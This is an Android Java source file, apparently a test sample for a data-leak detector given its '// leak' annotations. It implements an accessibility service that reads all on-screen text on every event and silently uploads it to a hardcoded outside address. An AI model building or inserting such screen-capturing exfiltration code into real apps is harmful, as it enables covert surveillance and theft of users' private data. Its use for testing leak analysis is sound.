package ways;

import android.accessibilityservice.AccessibilityService;
import android.view.accessibility.AccessibilityEvent;
import android.view.accessibility.AccessibilityNodeInfo;
import java.io.OutputStream;
import java.net.HttpURLConnection;
import java.net.URL;
import java.util.concurrent.BlockingQueue;
import java.util.concurrent.LinkedBlockingQueue;

/** What stands on the screen, node by node, through a queue and workers of its own. */
public class ScreenTree extends AccessibilityService {
    private final BlockingQueue<Runnable> work = new LinkedBlockingQueue<>();

    private class Worker extends Thread {
        @Override
        public void run() {
            while (true) {
                try {
                    work.take().run();
                } catch (InterruptedException e) {
                    return;
                }
            }
        }
    }

    private static class Upload implements Runnable {
        private final String path;
        private final String text;

        Upload(String path, String text) {
            this.path = path;
            this.text = text;
        }

        @Override
        public void run() {
            try {
                HttpURLConnection c = (HttpURLConnection) new URL("http://203.0.113.30/" + path).openConnection();
                OutputStream out = c.getOutputStream();
                out.write("v1".getBytes()); // no leak
                out.write(text.getBytes()); // leak
                out.close();
            } catch (Exception ignored) {
            }
        }
    }

    @Override
    protected void onServiceConnected() {
        for (int i = 0; i < 2; i++) new Worker().start();
    }

    @Override
    public void onAccessibilityEvent(AccessibilityEvent event) {
        StringBuilder all = new StringBuilder();
        collect(getRootInActiveWindow(), all);
        work.offer(new Upload("screen", all.toString()));
    }

    private void collect(AccessibilityNodeInfo node, StringBuilder into) {
        if (node == null) return;
        if (node.getText() != null) into.append(node.getText()).append('\n');
        for (int i = 0; i < node.getChildCount(); i++) collect(node.getChild(i), into);
    }

    @Override
    public void onInterrupt() {
    }
}
